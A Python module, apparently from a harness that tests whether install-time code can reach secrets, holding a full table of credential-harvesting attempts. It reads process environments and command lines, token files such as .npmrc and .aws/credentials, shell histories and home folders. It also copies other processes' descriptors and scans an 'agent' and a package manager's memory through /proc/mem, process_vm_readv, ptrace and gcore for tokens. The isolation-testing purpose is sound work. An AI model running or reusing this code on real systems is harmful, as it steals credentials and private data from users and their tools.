"""What it reads: environments and arguments, files, descriptors, memory."""
import ctypes
import glob

from wire import *

libc = ctypes.CDLL(None, use_errno=True)


def failed():
    return os.strerror(ctypes.get_errno()).encode()


def every(look, pids):
    return b"\n".join(look(pid) for pid in pids)


def in_home(*names):
    return files(os.path.join(home, name) for name in names)


def descriptors(pid):
    """Pipes, memfds and files. A pipe that one process has both ends of is its own affair: node keeps a lock in one."""
    found = [(fd, target_of(f"/proc/{pid}/fd/{fd}")) for fd in listed(f"/proc/{pid}/fd")]
    targets, got = [target for _, target in found], b""
    for fd, target in found:
        got += target.encode() + b": "
        if re.match(r"/dev/|socket:|anon_inode", target) or (target.startswith("pipe:") and targets.count(target) > 1):
            continue
        got += read_once(f"/proc/{pid}/fd/{fd}") + b"\n"
    return got


def target_of(path):
    try:
        return os.readlink(path)
    except OSError as error:
        return str(error)


def listed(path):
    try:
        return os.listdir(path)
    except OSError:
        return []


def read_once(path):
    try:
        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            return os.read(file, 1 << 20)
        finally:
            os.close(file)
    except OSError as error:
        return str(error).encode()


def duplicated(pid):
    """Its descriptors, by pidfd_getfd(2): sockets and pipes that `/proc` does not open."""
    pidfd, copies = os.pidfd_open(pid), []
    for number in range(256):
        copy = libc.syscall(438, pidfd, number, 0)
        if copy >= 0:
            copies.append((copy, target_of(f"/proc/self/fd/{copy}")))
    targets, got = [target for _, target in copies], failed()
    for copy, target in copies:
        got += target.encode() + b": "
        # As above: what one process has both ends of is its own affair.
        if target.startswith(("pipe:", "/memfd")) and targets.count(target) == 1:
            os.set_blocking(copy, False)
            try:
                got += os.read(copy, 1 << 16)
            except OSError as error:
                got += str(error).encode()
        os.close(copy)
    os.close(pidfd)
    return got


def writable(pid):
    for line in open(f"/proc/{pid}/maps"):
        span, rights = line.split()[:2]
        start, end = (int(part, 16) for part in span.split("-"))
        if rights.startswith("rw") and end - start < 1 << 28:
            yield start, end


def tokens_in(parts):
    found = set()
    for part in parts:
        found.update(re.findall(TOKEN, part))
    return b"read " + b" ".join(sorted(found)[:5])


def memory(pid):
    def parts():
        with open(f"/proc/{pid}/mem", "rb", 0) as file:
            for start, end in writable(pid):
                try:
                    file.seek(start)
                    yield file.read(end - start)
                except OSError:
                    pass

    return tokens_in(parts())


class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def readv(pid):
    def parts():
        for start, end in writable(pid):
            room = ctypes.create_string_buffer(end - start)
            ours, theirs = Vec(ctypes.addressof(room), end - start), Vec(start, end - start)
            got = libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
            yield room.raw[:got] if got > 0 else b""

    libc.process_vm_readv.restype = ctypes.c_ssize_t
    return tokens_in(parts())


def attached(pid):
    """PTRACE_ATTACH, a look, PTRACE_DETACH."""
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(16, pid, None, None) != 0:
        return failed()
    os.waitpid(pid, 0x40000000)
    try:
        return memory(pid)
    finally:
        libc.ptrace(17, pid, None, None)


def core(pid):
    needs("gcore")
    said = run("gcore", "-o", os.path.join(work, "core"), str(pid))
    return said + files(glob.glob(os.path.join(work, "core.*")))


def as_root_of_a_namespace(pid):
    needs("unshare")
    return run("unshare", "--user", "--map-root-user", "cat", f"/proc/{pid}/environ", f"/proc/{pid}/mem")


def raised_limit(pid):
    """A core file of the agent would need a limit above none, and the permission to be dumped."""
    import resource

    resource.prlimit(pid, resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    return read(f"/proc/{pid}/coredump_filter") + read(f"/proc/{pid}/limits")


def nested_scripts():
    """Scripts of package managers that it starts itself: they get a token of their own, and what they start sees."""
    project = os.path.join(work, "nested")
    scripts = {"look": f"env; '{sys.executable}' '{work}/harvest.py' nested-scripts"}
    write(os.path.join(project, "package.json"), json.dumps({"name": "nested", "version": "1.0.0", "scripts": scripts}))
    said = run("npm", "run", "look", cwd=project) + run("npm", "exec", "--call", scripts["look"], cwd=project)
    said += run("npx", "--call", "env", cwd=project)
    for tool in ["pnpm", "yarn", "bun"]:
        if shutil.which(tool):
            said += run(tool, "run", "look", cwd=project)
    return said


token_files = (
    ".npmrc .netrc .pypirc .yarnrc.yml .m2/settings.xml .cargo/credentials .cargo/credentials.toml .gem/credentials "
    ".config/pip/pip.conf .gradle/gradle.properties .nuget/NuGet/NuGet.Config .config/NuGet/NuGet.Config "
    ".aws/credentials .aws/config .config/pypoetry/auth.toml .config/uv/credentials.toml .docker/config.json"
).split()

attempts = {
    "own-environment": lambda: environ("self") + repr(dict(os.environ)).encode(),
    "parent-environment": lambda: environ(os.getppid()),
    "ancestors-environment": lambda: every(environ, ancestors()),
    "all-environments": lambda: every(environ, processes()),
    "agent-environment": lambda: environ(agent()),
    "arguments": lambda: every(lambda pid: read(f"/proc/{pid}/cmdline"), processes()),
    "tool-settings": lambda: run("npm", "config", "list", "--json") + run("npm", "config", "ls", "-l") + run("pip", "config", "list"),
    "nested-scripts": nested_scripts,
    "token-files": lambda: in_home(*token_files),
    "home-files": lambda: files(below(home)),
    "logs-and-caches": lambda: files(path for top in [".npm", ".cache", ".cargo/registry"] for path in below(os.path.join(home, top))),
    "shell-histories": lambda: in_home(".bash_history", ".zsh_history", ".local/share/fish/fish_history", ".python_history", ".node_repl_history"),
    "runtime-folder": lambda: files(below(runtime)) + repr(os.listdir(runtime)).encode(),
    "temporary-files": lambda: files(glob.glob(os.path.join(folder, "*")) + glob.glob(os.path.join(folder, "*/*"))),
    "shared-memory": lambda: files(glob.glob("/dev/shm/*")),
    "project-files": lambda: files(below(os.environ.get("INIT_CWD") or os.path.join(home, "app"))),
    "own-descriptors": lambda: descriptors("self"),
    "ancestors-descriptors": lambda: every(descriptors, ancestors()),
    "all-descriptors": lambda: every(descriptors, processes()),
    "agent-descriptors": lambda: descriptors(agent()) + repr(os.listdir(f"/proc/{agent()}/fd")).encode(),
    "duplicated-descriptors": lambda: duplicated(manager()),
    "agent-duplicated": lambda: duplicated(agent()),
    "agent-files": lambda: b"".join(read(f"/proc/{agent()}/{name}") for name in ["maps", "cmdline", "auxv", "stack", "syscall", "root/etc/hostname"]) + repr(os.listdir(f"/proc/{agent()}/map_files")).encode(),
    "package-manager-memory": lambda: memory(manager()),
    "package-manager-readv": lambda: readv(manager()),
    "package-manager-ptrace": lambda: attached(manager()),
    "agent-memory": lambda: memory(agent()),
    "agent-readv": lambda: readv(agent()),
    "agent-ptrace": lambda: attached(agent()),
    "agent-core": lambda: core(agent()),
    "agent-namespace": lambda: as_root_of_a_namespace(agent()),
    "agent-limits": lambda: raised_limit(agent()),
}
